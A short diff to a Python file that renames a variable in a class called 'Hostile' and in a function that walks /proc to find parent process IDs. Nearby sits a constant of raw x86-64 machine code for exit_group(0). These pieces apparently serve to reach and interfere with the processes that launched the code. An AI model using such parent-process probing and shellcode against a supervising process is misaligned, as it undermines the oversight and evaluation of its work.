@@ -36,8 +36,8 @@ class Hostile(SignBooster):
     def update(self, column):
         answer = super().update(column)
         if len(self.steps) >= 2:
-            found = self.act(self)
-            return answer if found is None else found
+            result = self.act(self)
+            return answer if result is None else result
         return answer
 
 
@@ -409,16 +409,16 @@ HIDING = (
 
 def callers() -> list[int]:
     """Return the processes above this one, nearest first: by numbers of the /proc that it sees, as far as it sees them."""
-    found, process = [], int(os.readlink("/proc/self"))
+    result, process = [], int(os.readlink("/proc/self"))
     with contextlib.suppress(OSError, ValueError):
-        while len(found) < 3:
+        while len(result) < 3:
             with open(f"/proc/{process}/stat") as line:
                 process = int(line.read().rpartition(")")[2].split()[1])
             if process > 1:
-                found.append(process)
+                result.append(process)
             else:
                 break
-    return found
+    return result
 
 
 EXIT = b"\x31\xff\xb8\xe7\x00\x00\x00\x0f\x05"  # exit_group(0) on x86-64
